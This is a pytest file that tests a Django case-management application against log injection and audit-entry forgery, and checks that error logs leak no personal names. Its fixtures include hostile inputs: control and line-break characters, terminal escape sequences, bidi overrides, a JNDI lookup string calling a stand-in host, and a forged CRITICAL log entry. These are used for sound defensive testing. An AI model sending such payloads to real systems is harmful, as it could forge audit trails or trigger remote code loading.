"""T24: typed text cannot forge a line of the process log or an audit entry, and no log line names a person."""

import json
import logging
import re
from collections.abc import Iterator
from io import StringIO
from itertools import count
from typing import Any

import pytest
from django.conf import settings
from django.test import Client

from mosovo.config.json_logging import JsonLogFormatter
from mosovo.organisations.models import Account
from mosovo.web.site.caseload import views as caseload
from tests.support.fixture_types import Sql
from tests.support.people import Cast, RegisteredNominal
from tests.trust.measurements import Measured

BREAKS = ("\r", "\n", "\r\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029", "\x00")
COMMANDS = ("\x1b[2J", "\x1b[1A\x1b[2K", "\x1b]0;title\x07", "\x9b31m", "\x08\x08\x08", "\x7f")
TURNED = ("\u202e", "\u2066", "\u200f", "\u202d", "\u2069", "\u061c", "\ufeff")
FORMATS = (
    "%s%s%s",
    "%n",
    "{0.__class__}",
    "{record.exc_info}",
    "${jndi:ldap://evil.example/a}",
    "%(message)s",
    "{{7*7}}",
)
ENTRY = '{"at": "2026-11-25T04:00:00.000+00:00", "level": "CRITICAL", "logger": "mosovo", "event": "forged"}'
PATTERNS = (
    "{0}{1}",
    "a{0}b{1}c",
    "{1}{0}",
    "{0}",
    "b{0}e",
    "{0}{0}{1}{0}",
    "x{0}{1}",
    "{0}{0}",
    "{0} {1}",
    "{1}{0}{1}",
)
VALUES = [
    pattern.replace("{0}", part).replace("{1}", ENTRY)
    for part in (*BREAKS, *COMMANDS, *TURNED, *FORMATS)
    for pattern in PATTERNS
]
RAW = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")
NAMES = ("Marchetti", "Alwyn", "Larch Close", "NS1 4QX", "1984")


@pytest.fixture
def written() -> Iterator[StringIO]:
    """Return what the process logs with its configured formatter."""
    stream = StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(JsonLogFormatter())
    logging.getLogger().addHandler(handler)
    yield stream
    logging.getLogger().removeHandler(handler)


@pytest.mark.trust("T24", target="300 values, a line each, all escaped")
@pytest.mark.pure
def test_hostile_value_is_one_escaped_line_of_the_process_log(written: StringIO, measured: Measured) -> None:
    assert settings.LOGGING["handlers"]["console"]["formatter"] == "line"
    for value in VALUES:
        logging.getLogger("django.security.DisallowedHost").error("Invalid HTTP_HOST header: %r. %s", value, value)
    lines = written.getvalue().split("\n")[:-1]
    events = [json.loads(line)["event"] for line in lines]
    assert set(events) == {"a line of a library"}
    measured(f"{len(lines)} lines of {len(VALUES)} values; {sum(map(bool, map(RAW.search, lines)))} not escaped")
    assert len(lines) == len(set(VALUES)) >= 300
    assert not any(RAW.search(line) for line in lines)
    assert "forged" not in {event[:6] for event in events}


@pytest.mark.trust("T24", target="each request writes its own lines, all escaped")
def test_hostile_request_forges_no_log_line(cast: Cast, written: StringIO, measured: Measured) -> None:
    client = Client(raise_request_exception=False)
    for value in VALUES[::3]:
        client.get("/" + value, HTTP_USER_AGENT=value)
        client.get("/", HTTP_HOST=value)
    lines = written.getvalue().split("\n")[:-1]
    kinds = {json.loads(line)["logger"] for line in lines}
    measured(f"{len(lines)} lines, {sum(map(bool, map(RAW.search, lines)))} not escaped")
    assert kinds == {"mosovo.requests", "django.security.DisallowedHost"}
    assert not any(RAW.search(line) or '"CRITICAL"' in line.partition('"event"')[0] for line in lines)


@pytest.mark.trust("T24", target="one entry each, all escaped where it is shown")
def test_hostile_user_name_is_one_escaped_audit_entry(
    cast: Cast, auditor: Account, owner_sql: Sql, measured: Measured
) -> None:
    before = owner_sql("select count(*) from audit_auditentry")[0][0]
    places = count(1)
    values = [value for value in VALUES[::6] if "\x00" not in value]
    for value in values:
        where = f"10.1.{next(places)}.1"
        response = Client().post("/account/login/", {"login": value[:90], "password": "wrong"}, REMOTE_ADDR=where)
        assert response.status_code in (200, 429)
    after = owner_sql("select count(*) from audit_auditentry")[0][0]
    reader = Client()
    reader.force_login(auditor)
    page = reader.get("/audit/", {"action": "account."}).content.decode()
    measured(f"{after - before} entries of {len(values)} values; {len(RAW.findall(page))} not escaped on the page")
    assert before < after <= before + 2 * len(values)
    assert RAW.findall(page) == []
    assert 'class="CRITICAL' not in page


def test_error_is_one_log_line_without_typed_text(
    cast: Cast, nominal: RegisteredNominal, written: StringIO, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fault(*_: Any) -> Any:
        raise ValueError(f"duplicate key: (surname)=({NAMES[0]}) {' '.join(NAMES)}")

    monkeypatch.setattr(caseload, "scope_from_request", fault)
    client = Client(raise_request_exception=False)
    client.force_login(cast.manager)
    assert client.get("/caseload/").status_code == 500
    line, request = written.getvalue().split("\n")[:-1]
    logged = json.loads(line)
    assert json.loads(request)["status"] == 500
    assert logged["faults"][0]["kind"] == "ValueError"
    assert "test_log_lines.py" in logged["faults"][0]["where"][-1]
    assert not any(name in line + request for name in NAMES)


@pytest.mark.pure
def test_errors_are_not_mailed() -> None:
    """Django's default settings mail errors to the site administrators, with the values of local variables."""
    assert logging.getLogger("django").handlers == []
    assert not any("mail" in type(handler).__name__.lower() for handler in logging.getLogger().handlers)
